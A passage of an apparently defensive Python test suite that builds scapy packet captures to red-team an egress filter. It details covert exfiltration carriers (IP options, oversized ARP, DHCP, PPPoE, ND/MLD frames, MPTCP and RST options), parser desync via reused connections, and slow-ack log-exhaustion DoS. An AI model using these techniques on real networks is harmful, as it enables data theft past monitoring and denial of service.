        t.raw(True, "PA", head[o:o + 1448], seq=base + o, gap=100)
    t.cseq = base + len(head)
    t.raw(False, "A", gap=20000)
    _ok_answer(t, n, mark=False)
    t.close()
    return cap, {"pass": [passm(n)]}


def _rt10e_reopen(n, port, how, delta):
    cap, t = ka_flow(n, port)
    if how == "rst":
        t.raw(True, "R", seq=t.cseq, gap=5000)
    else:
        t.close()
    cap.idle(1)
    t.cseq = (t.cseq - delta) & 0xffffffff
    t.sseq = (t.sseq + 7777777) & 0xffffffff
    t.raw(True, "S", seq=t.cseq, gap=5000)
    t.cseq += 1
    t.raw(False, "SA")
    t.sseq += 1
    t.raw(True, "A")
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt10e_reopen_rst_back_vk(n):
    """(Red team round 10e) Office HTTP, four requests for www.example.org answered, the
    client's RST, then a new handshake on the same 5-tuple whose first sequence number
    lies 100000 behind the old connection's next byte, and a GET for m.vk.com: if the HTTP
    reading's next byte (hw.next) outlives the old connection, the new bytes are "old"
    and pass unread. Must drop (social)."""
    return _rt10e_reopen(n, 53991, "rst", 100000)


@case
def case_rt10e_reopen_fin_back_vk(n):
    """(Red team round 10e) As rt10e_reopen_rst_back_vk after an orderly close (FIN both
    ways; the client reuses its port at once, as a NAT may). Must drop (social)."""
    return _rt10e_reopen(n, 53992, "fin", 100000)


@case
def case_rt10e_v6_share_dos_ok(n):
    """(Red team round 10e) Must-allow: an office IPv6 LAN is one /64, and the request
    log's per-source share (64) counts an IPv6 source by its /64. One host of it
    (2001:db8:20::66) opens 64 connections to an accomplice server outside, each sends a
    1000-byte request head that the server acknowledges a byte at a time every 4 s (no
    log goes stale, none is released). Then another host of the same /64
    (2001:db8:20::20) sends an ordinary GET for www.example.org (again at 1 s, 3 s and
    7 s): its log is refused for the /64's share, every copy dropped."""
    cap = Capture()
    A6 = "2001:db8:20::66"
    ts = []
    for i in range(64):
        t = ETcp(cap, A6, 53930 + i, SOC6, 80, isn=(53930 + i) * 7, rtt_us=20000)
        t.handshake(gap=200)
        h = (b"GET /h%d HTTP/1.1\r\nHost: www.example.org\r\nX-Pad: " % i
             + b"a" * (1000 - 60) + b"\r\n\r\n")
        t.raw(True, "PA", h, gap=100)
        t.base0 = t.cseq
        t.cseq += len(h)
        ts.append(t)
    acked = 0
    def trickle():
        nonlocal acked
        acked += 1
        for t in ts:
            t.raw(False, "A", ack=t.base0 + acked, gap=50)
    for k in range(3):
        cap.idle(4)
        trickle()
    u = ETcp(cap, O6, 53995, SOC6, 80, isn=53995 * 7, rtt_us=20000)
    u.handshake()
    head = b"GET /x HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n"
    for gap in (1000, 1000000, 2000000, 4000000):
        u.raw(True, "PA", head, gap=gap)
        if gap == 2000000:
            trickle()
    u.cseq += len(head)
    u.raw(False, "A")
    _ok_answer(u, n, mark=False)
    u.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt10e_odd_method_vk(n):
    """(Red team round 10e) Office HTTP: the first request's method has '_' and '-'
    ("FOO_BAR-X", which nginx's request-line parser takes: [A-Z_-]; it answers 405 and
    keeps the connection), for www.example.org, answered; then a GET for m.vk.com on the
    same connection. If the first line is not taken for an HTTP/1 start, the reading is
    off for the flow's life. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 53993, SOC, 80, isn=53993 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"FOO_BAR-X / HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n")
    t.data(False, b"HTTP/1.1 405 Not Allowed\r\nContent-Length: 0\r\n\r\n")
    for i in range(4):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % i)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt10e_pool_dos_ok(n):
    """(Red team round 10e) Must-allow: ten office addresses of one insider (10.20.2.1-10)
    each open 64 connections (their per-source share) to an accomplice server outside,
    each sends a 1000-byte request head that the server acknowledges a byte at a time
    every 4 s: no log goes stale (an acknowledgement's cut counts its age anew), none is
    released, and the workers' pools (256 logs each) are full. Then an honest office host
    sends a GET for www.example.org (again at 1 s, 3 s and 7 s): no log to be had, every
    copy dropped (http_log_full)."""
    cap = Capture()
    ts = []
    for a in range(10):
        src = "10.20.2.%d" % (a + 1)
        for i in range(64):
            t = ETcp(cap, src, 53900 + i, SOC, 80, isn=(a * 64 + i) * 7919 + 1, rtt_us=20000)
            t.handshake(gap=50)
            h = (b"GET /h%d HTTP/1.1\r\nHost: www.example.org\r\nX-Pad: " % i
                 + b"a" * (1000 - 60) + b"\r\n\r\n")
            t.raw(True, "PA", h, gap=50)
            t.base0 = t.cseq
            t.cseq += len(h)
            ts.append(t)
    acked = [0]
    def trickle():
        acked[0] += 1
        for t in ts:
            t.raw(False, "A", ack=t.base0 + acked[0], gap=20)
    for k in range(3):
        cap.idle(4)
        trickle()
    u = ETcp(cap, O1, 53996, SOC, 80, isn=53996 * 7, rtt_us=20000)
    u.handshake()
    head = b"GET /x HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n"
    for gap in (1000, 1000000, 2000000, 4000000):
        u.raw(True, "PA", head, gap=gap)
        if gap == 2000000:
            trickle()
    u.cseq += len(head)
    u.raw(False, "A")
    _ok_answer(u, n, mark=False)
    u.close()
    return cap, {"pass": [passm(n)]}


# --- red team round 10f (rt10f_): carriers past the option, frame and trailer rules on
# an allowed e2m session and the resolver flow, and honest RSTs (ports 54000-54099)

@case
def case_rt10f_pppoe_padi_tag(n):
    """(Red team round 10f) During an allowed e2m session the strict host broadcasts, before
    each record, a PPPoE Discovery PADI (0x8863) from its own MAC with a Vendor-Specific tag
    (0x0105) of 1400 bytes: the marker. parse_frame passes every discovery frame as link
    service (PARSE_L2_PASS) and judge_trailer_cut reads ARP only, so the whole frame reaches
    every host of the outside segment. A client's PADI carries Service-Name and Host-Uniq
    (RFC 2516), a few bytes. Closed: PPPoE discovery from inside is held to known tags of
    at most 64 bytes (parse_link_bounded, counters.link_refused). Must not pass."""
    def send(t, rec, i):
        s = mac_pair(t.c, t.s)[0]
        data = struct.pack("!I", 3561) + leak(n) + prand("%s-p%d" % (n, i), 1400)
        tags = (struct.pack("!HH", 0x0101, 0) + struct.pack("!HH", 0x0103, 4) + b"\x00\x00\x10\x0a"
                + struct.pack("!HH", 0x0105, len(data)) + data)
        pppoe = struct.pack("!BBHH", 0x11, 0x09, 0, len(tags)) + tags
        eth = bytes(Ether(src=s, dst="ff:ff:ff:ff:ff:ff", type=0x8863))
        t.cap.emit(Ether(eth + pppoe), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 54000, 54000, False, send), {"leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S1, E2M)[0]]}


@case
def case_rt10f_arp_wide(n):
    """(Red team round 10f) rt9d_arp_trailer with the bytes inside the ARP message: before
    each record an ARP request whose hardware and protocol address lengths are 255 each
    (1020 bytes of addresses: the marker). judge_trailer_cut takes the message's end from
    those lengths, so nothing is cut; Linux's arp_rcv drops it (ar_hln is not the device's),
    but the broadcast reaches every host of the outside segment. Must not pass."""
    def send(t, rec, i):
        s = mac_pair(t.c, t.s)[0]
        body = (leak(n) + prand("%s-a%d" % (n, i), 1100))[:1020]
        arp = struct.pack("!HHBBH", 1, 0x0800, 255, 255, 1) + body
        eth = bytes(Ether(src=s, dst="ff:ff:ff:ff:ff:ff", type=0x0806))
        t.cap.emit(Ether(eth + arp), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 54001, 54001, False, send), {"leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S1, E2M)[0]]}


@case
def case_rt10f_arp_qinq_wide(n):
    """(Red team round 10f) rt10f_arp_wide under QinQ tags (S-tag 200, C-tag 100) on the
    session's frames: an ARP request with 255-byte address lengths. Must not pass."""
    def send(t, rec, i):
        s = mac_pair(t.c, t.s)[0]
        body = (leak(n) + prand("%s-q%d" % (n, i), 1100))[:1020]
        arp = struct.pack("!HHBBH", 1, 0x0800, 255, 255, 1) + body
        eth = (bytes(Ether(src=s, dst="ff:ff:ff:ff:ff:ff", type=0x88a8))
               + struct.pack("!HHHH", 200, 0x8100, 100, 0x0806))
        t.cap.emit(Ether(eth + arp), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 54002, 54002, False, send), {"leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S1, E2M)[0]]}


@case
def case_rt10f_ack_ipopt(n):
    """(Red team round 10f) carrier_ipopt on bare ACKs: after each of the server's records the
    client acknowledges it with a bare ACK carrying an unassigned IPv4 option (0x9e) of 38
    bytes: the marker. judge_discardable refuses IP options on a data segment, but a
    checked flow's bare ACK is vetted for its TCP options only. Must not pass."""
    from scapy.layers.inet import IPOption
    cap = Capture()
    t = tls_established(cap, S1, 54003, E2M, 54003, n)
    for i in range(3):
        t.data(True, tls_appdata(n + "c%d" % i, 200))
        t.send(False, tls_appdata(n + "s%d" % i, 600))
        data = (leak(n) + prand("%s%d" % (n, i), 36))[:36]
        t.raw(True, "A", ipkw={"options": [IPOption(bytes([0x9e, 38]) + data)]})
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt10f_ack_dstopt6(n):
    """(Red team round 10f) carrier_dstopt6 on bare ACKs: over IPv6, each of the client's
    ACKs of the server's records rides behind a Destination Options header with four
    skippable unknown options (0x1e) of 230 bytes (the marker). Must not pass."""
    cap = Capture()
    t = tls_established(cap, S6, 54004, E2M6, 54004, n)
    for i in range(3):
        t.data(True, tls_appdata(n + "c%d" % i, 200))
        t.send(False, tls_appdata(n + "s%d" % i, 600))
        opt = IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x1E, optdata=leak(n) + prand("%s%d%d" % (n, i, j), 200))
                                         for j in range(4)])
        pkt = (IPv6(src=t.c, dst=t.s) / opt / TCP(sport=t.cport, dport=t.sport, flags="A", seq=t.cseq,
                                                   ack=t.sseq, window=64240))
        t.cap.emit(l2(t.c, t.s) / pkt, t.rtt // 2)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt10f_rst_hbh6(n):
    """(Red team round 10f) Over IPv6, before each client record, a RST from the client far
    out of the server's window (seq + 2^30: discarded silently, RFC 5961 3.2) behind a
    Hop-by-Hop header of skippable unknown options (0x1e) with 900 bytes (the marker).
    judge_rst_discardable keeps it from closing the flow for us, but it is forwarded.
    Must not pass."""
    def send(t, rec, i):
        opt = IPv6ExtHdrHopByHop(options=[HBHOptUnknown(otype=0x1E, optdata=leak(n) + prand("%s%d%d" % (n, i, j), 200))
                                          for j in range(4)])
        pkt = (IPv6(src=t.c, dst=t.s) / opt / TCP(sport=t.cport, dport=t.sport, flags="R",
                                                   seq=(t.cseq + (1 << 30)) & 0xffffffff, window=0))
        t.cap.emit(l2(t.c, t.s) / pkt, 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 54005, 54005, True, send), {"leak": [leak(n)]}


@case
def case_rt10f_rst_ipopt(n):
    """(Red team round 10f) IPv4: before each client record a RST out of the server's window
    with an unassigned IPv4 option (0x9e) of 38 bytes (the marker). Must not pass."""
    from scapy.layers.inet import IPOption
    def send(t, rec, i):
        data = (leak(n) + prand("%s%d" % (n, i), 36))[:36]
        t.raw(True, "R", seq=(t.cseq + (1 << 30)) & 0xffffffff,
              ipkw={"options": [IPOption(bytes([0x9e, 38]) + data)]})
        t.raw(True, "PA", rec)
    return carrier_flow(n, 54006, 54006, False, send), {"leak": [leak(n)]}


@case
def case_rt10f_syn_mptcp(n):
    """(Red team round 10f) The SYN of an e2m connection, sent four times (a client's
    backoff), each with MSS, SACK permitted, window scale and an MPTCP option of 30 bytes
    whose 28 bytes are the marker (no MP_CAPABLE of 4 or 12 bytes as Linux or Apple send).
    judge_tcp_opts takes MPTCP at 3 to 30 bytes on a SYN, judge_tcp_opts_flow is not asked
    on a SYN, and a SYN goes out before any verdict: 28 bytes of anything per SYN, and a
    new port per SYN. Must not pass."""
    cap = Capture()
    t = ETcp(cap, S1, 54007, E2M, 443, isn=54007, rtt_us=20000)
    for i in range(4):
        junk = (leak(n) + prand("%s-s%d" % (n, i), 28))[:28]
        t.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7), (30, junk)],
              gap=1000000 << i)
    t.cseq += 1
    t.raw(False, "SA", options=Tcp.SYN_OPTS)
    t.sseq += 1
    t.raw(True, "A")
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, tls_appdata(n + "req", 180))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt10f_mptcp_junk(n):
    """(Red team round 10f) A genuine MPTCP v1 connection (as rt8b_mptcp_ok); after the
    allow, every client segment carries, besides its DSS data ACK, a second MPTCP option
    of 30 bytes with an unassigned subtype (0xe) whose 28 bytes are the marker. MPTCP is
    the one kind allowed twice, at any length up to 30, of any subtype, once agreed:
    Linux's mptcp_parse_option ignores a subtype it does not know. Must not pass."""
    cap = Capture()
    t = ETcp(cap, S1, 54008, E2M, 443, isn=54008, rtt_us=20000)
    kc, ks = prand(n + "kc", 8), prand(n + "ks", 8)
    t.raw(True, "S", options=Tcp.SYN_OPTS + [(30, b"\x01\x01")])
    t.cseq += 1
    t.raw(False, "SA", options=Tcp.SYN_OPTS + [(30, b"\x01\x01" + ks)])
    t.sseq += 1
    t.raw(True, "A", options=[(30, b"\x01\x01" + ks + kc)])
    dsn = {True: 1, False: 1}

    def seg(from_client, payload, junk=None):
        mine = dsn[from_client]
        dss = b"\x20\x05" + struct.pack("!IIIH", dsn[not from_client] & M32, mine & M32,
                                         (t.cseq if from_client else t.sseq) - (54009 if from_client else 0) & M32,
                                         len(payload))
        opts = [(30, dss)]
        if junk:
            opts = [(30, b"\x20\x01" + struct.pack("!I", dsn[not from_client] & M32)), (30, junk)]
        t.raw(from_client, "PA", payload, options=opts)
        dsn[from_client] += len(payload)
        if from_client:
            t.cseq += len(payload)
        else:
            t.sseq += len(payload)
        t.raw(not from_client, "A", options=[(30, b"\x20\x01" + struct.pack("!I", dsn[from_client] & M32))])
    seg(True, hello(n))
    seg(False, server_hello_flight(n))
    seg(True, CCS + tls_appdata(n + "fin", 53))
    for i in range(3):
        seg(True, tls_appdata(n + "r%d" % i, 200),
            junk=b"\xe0" + (leak(n) + prand("%s-j%d" % (n, i), 28))[:27])
        seg(False, tls_appdata(n + "s%d" % i, 300))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt10f_dns_ipopt(n):
    """(Red team round 10f) Queries to the agency resolver (UDP), each with an unassigned
    IPv4 option (0x9e) of 38 bytes: the marker. judge_query_vetted keeps such a query from
    teaching names, but nothing refuses it: the option crosses the Internet to the
    resolver. No host stack puts options on a query. Must not pass."""
    from scapy.layers.inet import IPOption
    cap = Capture()
    for i in range(3):
        data = (leak(n) + prand("%s%d" % (n, i), 36))[:36]
        q = rt8b_query(0x5400 + i, "e2m.customs.example", 1, [])
        cap.emit(l2(S1, RESOLVER) / IP(src=S1, dst=RESOLVER, options=[IPOption(bytes([0x9e, 38]) + data)])
                 / UDP(sport=54009, dport=53) / Raw(q), 10000)
    return cap, {"leak": [leak(n)]}


@case
def case_rt10f_linux_rst_ts_ok(n):
    """(Red team round 10f) Must-allow: a Linux client with timestamps closes its socket
    with unread data (or SO_LINGER 0): tcp_send_active_reset sends RST+ACK through
    tcp_transmit_skb, with NOP NOP timestamps, at its next byte. The session's records
    pass and the RST is forwarded."""
    cap = Capture()
    t = tls_established_ts(cap, 54010, 54010, n)
    t.raw(True, "PA", marked_record(passm(n), n + "r", 200), options=t.opts(True))
    t.cseq += len(marked_record(passm(n), n + "r", 200))
    t.raw(False, "A", options=t.opts(False))
    rec = marked_record(passm(n) + b"srv", n + "s", 300)
    t.raw(False, "PA", rec, options=t.opts(False))
    t.sseq += len(rec)
    t.raw(True, "RA", options=t.opts(True))
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt10f_rst_sack_ok(n):
    """(Red team round 10f) Must-allow: a Linux client with SACK and timestamps holds the
    server's second segment past a hole (its SACK ACK names it) and then resets
    (tcp_send_active_reset): the RST carries timestamps and the same SACK block, 12 + 12
    bytes of options. Its earlier records pass."""
    cap = Capture()
    t = TsTcp(cap, S1, 54011, E2M, 443, isn=54011, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req", 200))
    a, b = tls_appdata(n + "s1", 600), marked_record(passm(n) + b"srv", n + "s2", 600)
    base = t.sseq
    t.raw(False, "PA", a, options=t.opts(False))                     # lost past aduana
    t.raw(False, "PA", b, seq=base + len(a), options=t.opts(False))
    sack = [("NOP", None), ("NOP", None), ("SAck", (base + len(a), base + len(a) + len(b)))]
    t.raw(True, "A", ack=base, options=t.opts(True) + sack)
    t.sseq = base + len(a) + len(b)
    t.raw(True, "RA", ack=base, options=t.opts(True) + sack)
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


def _tls_after_syns(t, n):
    """The rest of an e2m session after its client's SYNs (each case sends its own):
    the server's plain SYN-ACK, the ACK, a ClientHello, the server's flight, the
    client's Finished and close."""
    t.cseq += 1
    t.raw(False, "SA", options=Tcp.SYN_OPTS)
    t.sseq += 1
    t.raw(True, "A")
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.close()


@case
def case_rt10f_syn_dstopt6(n):
    """(Red team round 10f) IPv6: the SYN of an e2m connection, sent three times (backoff),
    each behind a Destination Options header of skippable unknown options (0x1e) holding
    900 bytes (the marker); then an ordinary handshake and session. A SYN goes out before
    any verdict; a new port gives a new SYN. Must not pass."""
    cap = Capture()
    t = ETcp(cap, S6, 54012, E2M6, 443, isn=54012, rtt_us=20000)
    for i in range(3):
        opt = IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x1E, optdata=leak(n) + prand("%s%d%d" % (n, i, j), 200))
                                         for j in range(4)])
        pkt = (IPv6(src=t.c, dst=t.s) / opt / TCP(sport=t.cport, dport=t.sport, flags="S", seq=t.cseq,
                                                   window=64240, options=Tcp.SYN_OPTS))
        t.cap.emit(l2(t.c, t.s) / pkt, 1000000 << i)
    _tls_after_syns(t, n)
    return cap, {"leak": [leak(n)]}


@case
def case_rt10f_syn_ipopt(n):
    """(Red team round 10f) IPv4: the SYN of an e2m connection, sent three times, each with
    an unassigned IPv4 option (0x9e) of 38 bytes (the marker). Must not pass."""
    from scapy.layers.inet import IPOption
    cap = Capture()
    t = ETcp(cap, S1, 54013, E2M, 443, isn=54013, rtt_us=20000)
    for i in range(3):
        data = (leak(n) + prand("%s%d" % (n, i), 36))[:36]
        t.raw(True, "S", options=Tcp.SYN_OPTS, ipkw={"options": [IPOption(bytes([0x9e, 38]) + data)]},
              gap=1000000 << i)
    _tls_after_syns(t, n)
    return cap, {"leak": [leak(n)]}


@case
def case_rt10f_fin_ipopt(n):
    """(Red team round 10f) rt9d_carrier_fin_opts at the IP layer: the client's FIN and three
    resends of it, each with an unassigned IPv4 option (0x9e) of 38 bytes (the marker).
    Must not pass."""
    from scapy.layers.inet import IPOption
    cap = Capture()
    t = tls_established(cap, S1, 54014, E2M, 54014, n)
    for i in range(4):
        data = (leak(n) + prand("%s%d" % (n, i), 36))[:36]
        t.raw(True, "FA", ipkw={"options": [IPOption(bytes([0x9e, 38]) + data)]}, gap=200000)
    t.cseq += 1
    t.raw(False, "FA")
    t.sseq += 1
    t.raw(True, "A")
    return cap, {"leak": [leak(n)]}


@case
def case_rt10f_lldp_carrier(n):
    """(Red team round 10f) During an allowed e2m session, before each record, the strict
    host sends an LLDP frame (0x88cc, to the nearest-bridge group) and an 802.3 LLC frame
    (a length, not a type), each with 1400 bytes (the marker). Both are other ethertypes
    (PARSE_L2_OTHER): dropped. Must not pass."""
    def send(t, rec, i):
        s = mac_pair(t.c, t.s)[0]
        body = leak(n) + prand("%s-l%d" % (n, i), 1400)
        tlv = struct.pack("!H", (127 << 9) | len(body[:511])) + body[:511]
        lldp = (struct.pack("!H", (1 << 9) | 7) + b"\x04" + bytes.fromhex(s.replace(":", ""))
                + struct.pack("!H", (2 << 9) | 7) + b"\x03" + bytes.fromhex(s.replace(":", ""))
                + struct.pack("!H", (3 << 9) | 2) + b"\x00\x78" + tlv + b"\x00\x00")
        t.cap.emit(Ether(bytes(Ether(src=s, dst="01:80:c2:00:00:0e", type=0x88cc)) + lldp), 1000)
        llc = b"\xaa\xaa\x03\x00\x00\x00\x08\x00" + body
        t.cap.emit(Ether(bytes.fromhex(mac_pair(t.c, t.s)[1].replace(":", "")) + bytes.fromhex(s.replace(":", ""))
                         + struct.pack("!H", len(llc)) + llc), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 54015, 54015, False, send), {"leak": [leak(n)]}


@case
def case_rt10f_dns_badsum_junk(n):
    """(Red team round 10f) After an ordinary query and its answer, the client sends three
    datagrams on the same resolver flow with a wrong UDP checksum and 1000 bytes of no DNS
    (the marker). The resolver's stack discards them; routers carry them on. Must not
    pass."""
    cap = Capture()
    q = rt8b_query(0x5410, "e2m.customs.example", 1, [])
    udp(cap, S1, 54016, RESOLVER, 53, q)
    ans = bytearray(q)
    ans[2:4] = b"\x81\x80"
    ans[6:8] = b"\x00\x01"
    ans = bytes(ans) + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + bytes([198, 51, 100, 5])
    udp(cap, RESOLVER, 53, S1, 54016, ans)
    for i in range(3):
        cap.emit(l2(S1, RESOLVER) / IP(src=S1, dst=RESOLVER) / UDP(sport=54016, dport=53, chksum=0xbeef)
                 / Raw(leak(n) + prand("%s%d" % (n, i), 1000)), 10000)
    return cap, {"leak": [leak(n)]}


@case
def case_rt10f_syn_tfo_mptcp_ok(n):
    """(Red team round 10f) Must-allow: a Linux MPTCP client with a Fast Open cookie from an
    earlier connection and no SYN data: MSS, SACK permitted, timestamps, window scale, a
    Fast Open cookie of 8 bytes and MP_CAPABLE (4): 38 bytes of SYN options. The server
    answers MP_CAPABLE with its key and the session runs with DSS options. Since the
    twenty-first session the MP_CAPABLE is taken off (judge_syn_normalise): the server
    answers without it and the session runs as TCP."""
    cap = Capture()
    t = ETcp(cap, S1, 54017, E2M, 443, isn=54017, rtt_us=20000)
    ks, kc = prand(n + "ks", 8), prand(n + "kc", 8)
    t.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (1000, 0)), ("NOP", None),
                              ("WScale", 7), (34, prand(n + "ck", 8)), (30, b"\x00\x81")])
    t.cseq += 1
    t.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (9000, 1000)), ("NOP", None),
                                ("WScale", 7)])
    t.sseq += 1
    ts = {True: 1001, False: 9001}

    def tso(fc):
        ts[fc] += 1
        return [("NOP", None), ("NOP", None), ("Timestamp", (ts[fc], ts[not fc]))]
    assert kc and ks
    t.raw(True, "A", options=tso(True))
    dsn = {True: 1, False: 1}

    def seg(fc, payload):
        dss = b"\x20\x05" + struct.pack("!IIIH", dsn[not fc] & M32, dsn[fc] & M32,
                                         (t.cseq - 54018 if fc else t.sseq - (54017 * 7 + 4001)) & M32,
                                         len(payload))
        assert dss
        t.raw(fc, "PA", payload, options=tso(fc))
        dsn[fc] += len(payload)
        if fc:
            t.cseq += len(payload)
        else:
            t.sseq += len(payload)
        t.raw(not fc, "A", options=tso(not fc))
    seg(True, hello(n))
    seg(False, server_hello_flight(n))
    seg(True, CCS + tls_appdata(n + "fin", 53))
    seg(True, marked_record(passm(n), n + "req", 200))
    seg(False, marked_record(passm(n) + b"srv", n + "resp", 500))
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rt10f_dhcp_opts(n):
    """(Red team round 10f) During an allowed e2m session the strict host, from its own MAC,
    broadcasts DHCPDISCOVERs from 0.0.0.0:68 to 255.255.255.255:67 (parse_is_link_service:
    passed unjudged) whose options hold a vendor class (60), vendor-specific (43) and
    private (224-227) options of 250 bytes each: the marker. A DHCP relay on the outside
    link forwards the whole message, options and all, to its server off the link (RFC 1542
    4.1.1). A client's DISCOVER is about 300 bytes. Must not pass."""
    def send(t, rec, i):
        s = mac_pair(t.c, t.s)[0]
        blob = leak(n) + prand("%s-d%d" % (n, i), 1500)
        opts = b"\x35\x01\x01" + b"".join(bytes([code, 250]) + blob[k * 250:(k + 1) * 250]
                                       for k, code in enumerate((60, 43, 224, 225, 226, 227)))
        bootp = (struct.pack("!BBBBIHH", 1, 1, 6, 0, 0x54000000 + i, 0, 0x8000) + b"\x00" * 16
                 + bytes.fromhex(s.replace(":", "")) + b"\x00" * 10 + b"\x00" * 192
                 + b"\x63\x82\x53\x63" + opts + b"\xff")
        t.cap.emit(Ether(src=s, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255")
                   / UDP(sport=68, dport=67) / Raw(bootp), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 54018, 54018, False, send), {"leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S1, E2M)[0]]}


@case
def case_rt10f_dhcp6_opts(n):
    """(Red team round 10f) The same over DHCPv6: Solicits from the strict host's link-local
    address to ff02::1:2 (All_DHCP_Relay_Agents_and_Servers) port 547, with a Vendor Class
    (16) and Vendor-specific Information (17) option of 600 bytes each: the marker. A relay
    agent wraps the whole message in a Relay-Forward to its servers off the link (RFC 8415
    19.1). Must not pass."""
    def send(t, rec, i):
        s = mac_pair(t.c, t.s)[0]
        blob = leak(n) + prand("%s-d%d" % (n, i), 1300)
        duid = struct.pack("!HH", 3, 1) + bytes.fromhex(s.replace(":", ""))
        opts = (struct.pack("!HH", 1, len(duid)) + duid + struct.pack("!HHH", 8, 2, 0)
                + struct.pack("!HH", 16, 604) + struct.pack("!I", 9) + blob[:600]
                + struct.pack("!HH", 17, 604) + struct.pack("!I", 9) + blob[600:1200])
        msg = bytes([1]) + struct.pack("!I", 0x5400 + i)[1:] + opts
        t.cap.emit(Ether(src=s, dst="33:33:00:01:00:02") / IPv6(src="fe80::95:b3ff:fe18:e938", dst="ff02::1:2", hlim=1)
                   / UDP(sport=546, dport=547) / Raw(msg), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 54019, 54019, True, send), {"leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S6, E2M6)[0]]}


@case
def case_rt10f_nd_opts(n):
    """(Red team round 10f) During an allowed IPv6 e2m session the strict host sends, before
    each record, a Neighbor Solicitation (hop limit 255, to a solicited-node group: passed
    like ARP, judge_nd_ok) with an option of an unassigned type (200) of 1000 bytes: the
    marker. Receivers ignore an option they do not know (RFC 4861 4.6); the multicast
    reaches every host of the outside link. Must not pass."""
    def send(t, rec, i):
        s = mac_pair(t.c, t.s)[0]
        blob = (leak(n) + prand("%s-n%d" % (n, i), 1100))[:1006]
        ns = (struct.pack("!BBHI", 135, 0, 0, 0) + bytes.fromhex("fe800000000000000000000000000001")
              + bytes([1, 1]) + bytes.fromhex(s.replace(":", "")) + bytes([200, 127]) + blob)
        ip6 = IPv6(src="fe80::72:baff:fe59:da2b", dst="ff02::1:ff00:1", hlim=255, nh=58) / Raw(ns)
        raw = bytearray(bytes(ip6))
        from scapy.layers.inet6 import in6_chksum
        c = in6_chksum(58, IPv6(bytes(raw)), bytes(ns))
        raw[42:44] = struct.pack("!H", c)
        t.cap.emit(Ether(bytes(Ether(src=s, dst="33:33:ff:00:00:01", type=0x86dd)) + bytes(raw)), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 54020, 54020, True, send), {"leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S6, E2M6)[0]]}


@case
def case_rt10f_mld_opts(n):
    """(Red team round 10f) During an allowed IPv6 e2m session the strict host sends MLDv1
    reports (type 131, from its link-local address: parse_is_link_service, passed unjudged
    before any zone) to ff02::16 with 1000 bytes after the 24-byte message: the marker.
    Must not pass."""
    def send(t, rec, i):
        s = mac_pair(t.c, t.s)[0]
        blob = leak(n) + prand("%s-m%d" % (n, i), 1000)
        mld = struct.pack("!BBHHH", 131, 0, 0, 0, 0) + bytes.fromhex("ff0200000000000000000000000000fb") + blob
        from scapy.layers.inet6 import in6_chksum
        ip6 = IPv6(src="fe80::72:baff:fe59:da2b", dst="ff02::16", hlim=1, nh=58)
        c = in6_chksum(58, ip6 / Raw(mld), mld)
        mld = mld[:2] + struct.pack("!H", c) + mld[4:]
        t.cap.emit(Ether(src=s, dst="33:33:00:00:00:16") / ip6 / Raw(mld), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 54021, 54021, True, send), {"leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S6, E2M6)[0]]}


@case
def case_rt10f_rst_opts(n):
    """(Red team round 10f) Before each client record of an allowed e2m session (no MPTCP
    agreed), a RST far out of the server's window carrying an MPTCP option of 30 bytes and
    then, in a second RST, a SACK option of four blocks outside the server's bytes (the
    marker in each). A RST without data is vetted as a bare ACK (judge_tcp_opts_flow).
    Must not pass."""
    def send(t, rec, i):
        junk = (leak(n) + prand("%s-r%d" % (n, i), 28))[:28]
        t.raw(True, "R", seq=(t.cseq + (1 << 30)) & 0xffffffff, options=[(30, junk)])
